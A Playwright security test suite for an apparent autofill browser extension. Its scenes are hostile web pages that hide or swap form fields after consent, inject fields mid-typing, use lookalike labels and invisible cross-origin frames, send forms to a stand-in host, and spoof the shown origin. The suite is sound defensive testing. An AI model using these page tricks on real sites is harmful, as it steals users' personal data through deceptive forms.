/**
 * A7-A15, B1-B10, I12: what a page does between the look, the yes and the write, and where it stands. Each scene says what may be known
 * afterwards; everything else is a leak. The person says yes to everything unless the scene says otherwise.
 */
import { expect, test } from '@playwright/test';
import type { OperationId } from '../../lib/core/ids.ts';
import type { CanaryName } from './canaries.ts';
import { type Lane, type Rig, startRig } from './rig.ts';

const given = '<p><label>First name <input name="given" autocomplete="given-name"></label></p>';
const mail = '<p><label>E-mail <input name="mail" autocomplete="email"></label></p>';
const tel = '<p id="p"><label>Phone <input name="tel" id="tel" autocomplete="tel"></label></p>';
const passport = '<p><label>Passport number <input name="passport"></label></p>';
const form = (inner: string, attributes = '') => `<h1>Join us</h1><form ${attributes}>${inner}<button>Join</button></form>`;
const HOST = 'join.example';
const SENSITIVE: readonly CanaryName[] = ['passport', 'taxId', 'iban', 'allergy', 'partner'];

interface Scene {
  readonly name: string;
  readonly body: string | ((rig: Rig) => string);
  readonly host?: string;
  readonly secure?: boolean;
  /** In the page, between the look and the yes. */
  readonly between?: string;
  /** `ready` leaves out what needs a yes of its own. */
  readonly yes?: 'all' | 'ready';
  readonly allowed: readonly CanaryName[];
  /** What must have arrived: else the scene proves nothing. */
  readonly arrives?: readonly CanaryName[];
  readonly refusal?: string;
}

const SCENES: readonly Scene[] = [
  {
    name: 'A7 hidden after the look',
    body: form(given + mail + tel),
    between: "tel.style.opacity='0'",
    allowed: [],
    refusal: 'target-changed',
  },
  {
    name: 'A7 taken out of the page after the look',
    body: form(given + tel),
    between: "p.style.display='none'",
    allowed: [],
    refusal: 'target-changed',
  },
  {
    name: 'A7 clipped while the field before is written',
    body: form(`${given}${tel}<script>document.querySelector('[name=given]').oninput=()=>{p.style.clipPath='inset(50%)'}</script>`),
    allowed: ['given'],
    arrives: ['given'],
  },
  {
    name: 'A8 added while another is written',
    body: form(
      `${given}<div id="more"></div><script>document.querySelector('[name=given]').oninput=()=>{more.innerHTML=${JSON.stringify(passport + mail)}}</script>`,
    ),
    allowed: ['given'],
    arrives: ['given'],
  },
  {
    name: 'A8 added after the look',
    body: form(`${given}<div id="more"></div>`),
    between: `more.innerHTML=${JSON.stringify(passport)}`,
    allowed: ['given'],
    arrives: ['given'],
  },
  {
    name: 'A9 another node of the same name',
    body: form(given + tel),
    between: 'tel.replaceWith(tel.cloneNode())',
    allowed: ['tel', 'given'],
  },
  {
    name: 'A9 a card by its attribute',
    body: form(given + tel),
    between: "tel.autocomplete='cc-number'",
    allowed: [],
    refusal: 'target-changed',
  },
  { name: 'A9 a password by its type', body: form(given + tel), between: "tel.type='password'", allowed: [], refusal: 'target-changed' },
  {
    name: 'A10 other words while another is written',
    body: form(
      `${given}${tel}<script>document.querySelector('[name=given]').oninput=()=>{p.firstChild.firstChild.data='Public comment ';tel.name='comment';tel.autocomplete='off'}</script>`,
    ),
    allowed: ['given'],
    arrives: ['given'],
  },
  {
    name: 'A11 gone before the yes: no neighbour gets it',
    body: form(
      `${given}<p><label>Phone <input id="tel" name="x" autocomplete="tel"></label></p><p><label>Second phone of the office <input name="x"></label></p>`,
    ),
    between: 'tel.remove()',
    allowed: [],
    refusal: 'target-changed',
  },
  {
    name: 'A12 a trap that is shown once it is filled',
    body: form(
      `${given}<input type="hidden" id="tel" name="tel" autocomplete="tel"><p style="position:absolute;left:-9999px"><label>Website <input name="website" tabindex="-1" autocomplete="off"></label></p><script>document.querySelector('[name=given]').oninput=()=>{tel.type='text'}</script>`,
    ),
    allowed: ['given'],
    arrives: ['given'],
  },
  {
    name: 'A13 read-only and inert',
    body: form(
      `${given}<p><label>Phone <input autocomplete="tel" readonly></label></p><p inert><label>E-mail <input autocomplete="email"></label></p>`,
    ),
    allowed: ['given'],
    arrives: ['given'],
  },
  ...['name', 'Full name', 'Naｍe', '\u202eemaN', 'Your nаme'].flatMap((label, i): Scene[] =>
    ['cc-number', 'passport', 'iban', 'tax-id'].map((attribute) => ({
      name: `A14 label "${label}" ${i}, attribute ${attribute}`,
      body: form(`${given}<p><label>${label} <input name="${attribute}" autocomplete="${attribute}"></label></p>`),
      yes: 'ready',
      allowed: ['given', 'family'],
    })),
  ),
  {
    name: 'A15 a form that asks for everything',
    body: form(
      [
        'First name',
        'Last name',
        'E-mail',
        'Phone',
        'Passport number',
        'IBAN',
        'Tax ID',
        'Allergies',
        "Partner's name",
        'Salary',
        'Religion',
        'Date of birth',
      ]
        .map((label) => `<p><label>${label} <input></label></p>`)
        .join(''),
    ),
    yes: 'ready',
    allowed: ['given', 'family', 'email', 'tel', 'street', 'town', 'employer'],
    arrives: ['given', 'family'],
  },
  {
    name: 'B1 a frame of another origin, without a yes for it',
    body: (rig) =>
      `${form(given)}<iframe width="600" height="200" src="${rig.serve('other.example', form(mail + tel + passport))}"></iframe>`,
    yes: 'ready',
    allowed: ['given'],
    arrives: ['given'],
  },
  {
    name: 'B1 a frame of another origin gets nothing personal on any yes',
    body: (rig) => `${form(given)}<iframe width="600" height="300" src="${rig.serve('other.example', form(passport + tel))}"></iframe>`,
    allowed: ['given', 'tel'],
  },
  ...[
    ['sandbox', (url: string) => `<iframe sandbox="allow-scripts" width="600" height="200" src="${url}"></iframe>`],
    ['data:', () => `<iframe width="600" height="200" src="data:text/html,${encodeURIComponent(mail + tel)}"></iframe>`],
    ['sandboxed srcdoc', () => `<iframe sandbox="allow-scripts" width="600" height="200" srcdoc='${mail + tel}'></iframe>`],
  ].map(
    ([name, frame]): Scene => ({
      name: `B2 ${name}`,
      body: (rig) => form(given) + (frame as (url: string) => string)(rig.serve(HOST, form(mail + tel))),
      allowed: ['given'],
      arrives: ['given'],
    }),
  ),
  {
    name: 'B3 srcdoc of the page, in sight',
    body: `${form(given)}<iframe width="600" height="200" srcdoc='${mail}'></iframe>`,
    allowed: ['given', 'email'],
    arrives: ['given', 'email'],
  },
  ...[
    ['faded', 'opacity:.01'],
    ['clipped', 'clip-path:inset(49%)'],
    ['masked', 'mask:linear-gradient(transparent,transparent)'],
    ['filtered', 'filter:opacity(0)'],
    ['of two pixels', 'width:2px;height:2px'],
    ['off the page', 'position:absolute;left:-3000px'],
    ['blended', 'mix-blend-mode:lighten'],
    ['turned', 'transform:rotateY(90deg)'],
  ].map(
    ([name, style]): Scene => ({
      name: `B4 a frame ${name}`,
      body: `${form(given)}<iframe style="width:600px;height:200px;${style}" srcdoc='${mail + tel}'></iframe>`,
      allowed: ['given'],
      arrives: ['given'],
    }),
  ),
  {
    name: 'B4 frames in frames, each a little faded',
    body: `${form(given)}<iframe style="opacity:.6;width:700px;height:300px" srcdoc='<iframe style="opacity:.6;width:600px;height:200px" srcdoc="${tel.replaceAll('"', '&amp;quot;')}"></iframe>'></iframe>`,
    allowed: ['given'],
    arrives: ['given'],
  },
  {
    name: 'B7 without encryption nothing personal',
    host: 'shop.example.co.uk',
    secure: false,
    body: form(given + passport + '<p><label>IBAN <input></label></p><p><label>Allergies <input></label></p>'),
    allowed: ['given'],
    arrives: ['given'],
  },
  {
    name: 'B9 sent to another host: nothing sensitive',
    body: form(given + passport, 'action="https://elsewhere.example/take"'),
    allowed: ['given'],
  },
  {
    name: 'B9 sent to another host: nothing in one go',
    body: form(given + mail, 'action="https://elsewhere.example/take"'),
    yes: 'ready',
    allowed: [],
  },
  {
    name: 'B9 sent to another host by its button',
    body: `<h1>Join us</h1><form>${given}${passport}<button formaction="https://elsewhere.example/take">Join</button></form>`,
    yes: 'ready',
    allowed: [],
  },
];

let rig: Rig;
let lane: Lane;
test.beforeAll(async () => {
  rig = await startRig();
  lane = await rig.lane();
});
test.afterAll(() => rig.close());

for (const scene of SCENES) {
  test(scene.name, async () => {
    await rig.leave(lane);
    const body = typeof scene.body === 'string' ? scene.body : scene.body(rig);
    await lane.page.goto(rig.serve(scene.host ?? HOST, body, { secure: scene.secure }), { waitUntil: 'load' });
    const view = await rig.view(lane);
    expect(rig.canaries.found(await rig.readable(lane)), 'before the yes').toEqual([]);
    if (scene.between) await lane.page.evaluate(scene.between);
    const rows = scene.yes === 'ready' ? view.rows.filter((row) => row.status === 'ready') : view.rows;
    const answer = await rig.acceptAll(lane, { ...view, rows });
    const known = rig.canaries.found(`${await rig.readable(lane)}\n${rig.asked()}`);
    expect(
      known.filter((name) => !scene.allowed.includes(name)),
      'leaked',
    ).toEqual([]);
    for (const name of scene.arrives ?? []) expect(known).toContain(name);
    if (scene.refusal) expect(answer).toMatchObject({ ok: false, reason: scene.refusal });
    for (const name of SENSITIVE) if (!scene.allowed.includes(name)) expect(known).not.toContain(name);
  });
}

test('B6 the origin that is shown is the browser’s own, whatever the address looks like', async () => {
  const url = new URL(rig.serve(HOST, form(given)));
  for (const address of [`https://bank.example@${url.host}${url.pathname}`, `https://${url.host.toUpperCase()}${url.pathname}`]) {
    await lane.page.goto(address);
    expect((await rig.view(lane)).origin).toBe(await lane.page.evaluate('location.origin'));
  }
});

test('B5 a choice for one neighbour under a public suffix says nothing about the other', async () => {
  await lane.page.goto(rig.serve('alice.github.io', form(mail)));
  const view = await rig.view(lane);
  const row = view.rows.find((one) => one.value !== undefined);
  await rig.call('surface.never', { origin: view.origin, row: row?.id ?? '', tabId: lane.tabId, never: true });
  expect((await rig.view(lane)).rows[0]).toMatchObject({ status: 'refused', reason: 'never-here' });
  await lane.page.goto(rig.serve('bob.github.io', form(mail)));
  expect((await rig.view(lane)).rows[0]).toMatchObject({ status: 'ready' });
});

test('B8 the page goes elsewhere between the yes and the write', async () => {
  const elsewhere = rig.serve('elsewhere.example', form(given + mail + tel));
  await lane.page.goto(rig.serve(HOST, form(given + mail + tel)));
  const view = await rig.view(lane);
  const answer = rig.acceptAll(lane, view);
  await lane.page.waitForTimeout(10);
  await lane.page.goto(elsewhere);
  await answer;
  await lane.page.waitForTimeout(300);
  expect(rig.canaries.found(await rig.readable(lane))).toEqual([]);
  rig.asked();
});

test('B8 a view of the page before is refused by the page after, and an operation happens once', async () => {
  await lane.page.goto(rig.serve(HOST, form(given)));
  const old = await rig.view(lane);
  await lane.page.goto(rig.serve(HOST, form(given)));
  expect(await rig.acceptAll(lane, old)).toMatchObject({ ok: false });
  const view = await rig.view(lane);
  await lane.page.evaluate('window.inputs = 0; document.querySelector("[name=given]").addEventListener("input", () => inputs++)');
  const rows = view.rows.filter((row) => row.status === 'ready').map(({ id }) => ({ id }));
  const body = { tabId: lane.tabId, view: view.view, rows, operation: 'only-once' as OperationId };
  const [one, two] = [await rig.call('surface.accept', body), await rig.call('surface.accept', body)];
  expect(two).toEqual(one);
  expect(await lane.page.evaluate('inputs')).toBe(1);
});

test('B10 a tab that is not in front gets nothing', async () => {
  await lane.page.goto(rig.serve(HOST, form(given + mail)));
  const view = await rig.view(lane);
  await lane.page.evaluate('window.open("about:blank", "_blank")').catch(() => null);
  const worker = await rig.session.extension.serviceWorker();
  await worker.evaluate(async (tabId) => {
    const { windowId } = await chrome.tabs.get(tabId);
    await chrome.tabs.create({ windowId, active: true, url: 'about:blank' });
  }, lane.tabId);
  expect(await rig.acceptAll(lane, view)).toEqual({ ok: false, reason: 'tab-not-active' });
  expect(rig.canaries.found(await rig.readable(lane))).toEqual([]);
  await worker.evaluate(async (tabId) => void (await chrome.tabs.update(tabId, { active: true })), lane.tabId);
});

test('I12 a tab that is closed while it is filled is said to be gone, and nothing is tried elsewhere', async () => {
  const other = await rig.lane();
  await other.page.goto(rig.serve(HOST, form(given + mail + tel)));
  const view = await rig.view(other);
  await other.page.evaluate(`document.querySelector('[name=given]').oninput = () => setTimeout(close, 0)`);
  const answer = rig.acceptAll(other, view);
  await other.page.waitForTimeout(150);
  await other.page.close();
  const report = await answer;
  const statuses = report.ok ? report.value.outcomes.map((outcome) => outcome.status) : [report.reason];
  expect(statuses.length).toBeGreaterThan(0);
  expect(rig.canaries.found(await rig.readable(lane))).toEqual([]);
});
